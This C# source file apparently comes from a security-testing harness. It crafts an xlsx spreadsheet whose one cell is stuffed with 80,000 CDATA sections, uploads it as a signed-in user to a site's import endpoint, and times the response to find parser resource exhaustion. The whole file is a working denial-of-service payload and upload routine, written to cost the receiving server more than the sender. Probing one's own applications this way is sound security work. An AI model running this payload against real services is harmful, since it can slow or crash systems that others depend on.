using System.Diagnostics;
using System.IO.Compression;
using System.Text;

namespace Modular.Attack;

/// <summary>A sheet that costs its reader more than its sender.</summary>
internal static class Burning
{
    internal static async Task<string?> BurningSheet(Site site)
    {
        using var worker = await Browser.SignedIn(site, "community");
        byte[] sheet = Sheet(
            "<row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>"
                + string.Concat(Enumerable.Repeat("<![CDATA[ab]]>", 80_000))
                + "</t></is></c></row>"
        );
        var watch = Stopwatch.StartNew();
        var answer = await worker.Upload(
            "/needs/import?handler=Look",
            [("Input.UnitId", "5")],
            [("Input.File", "burn.xlsx", sheet)]
        );
        if (answer.Status >= 500)
            return $"{answer.Status}";
        return watch.Elapsed.TotalSeconds < 20 ? null : $"{watch.Elapsed.TotalSeconds:0} s";
    }

    internal static byte[] Sheet(string rows)
    {
        using var memory = new MemoryStream();
        using (var zip = new ZipArchive(memory, ZipArchiveMode.Create, leaveOpen: true))
        {
            void Put(string name, string text)
            {
                using var writer = new StreamWriter(zip.CreateEntry(name).Open(), new UTF8Encoding(false));
                writer.Write(text);
            }

            Put(
                "[Content_Types].xml",
                """<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/></Types>"""
            );
            Put(
                "_rels/.rels",
                """<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>"""
            );
            Put(
                "xl/workbook.xml",
                """<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="S" sheetId="1" r:id="r1"/></sheets></workbook>"""
            );
            Put(
                "xl/_rels/workbook.xml.rels",
                """<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>"""
            );
            Put(
                "xl/worksheets/sheet1.xml",
                $"""<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>{rows}</sheetData></worksheet>"""
            );
        }

        return memory.ToArray();
    }
}
